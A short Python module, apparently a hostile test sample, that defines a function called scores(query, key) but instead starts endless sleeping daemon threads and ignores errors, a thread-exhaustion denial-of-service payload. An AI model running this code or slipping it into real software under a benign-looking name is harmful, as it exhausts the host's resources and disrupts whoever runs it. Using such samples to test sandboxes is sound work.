"""Starts threads without end."""

import threading
import time


def scores(query, key):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
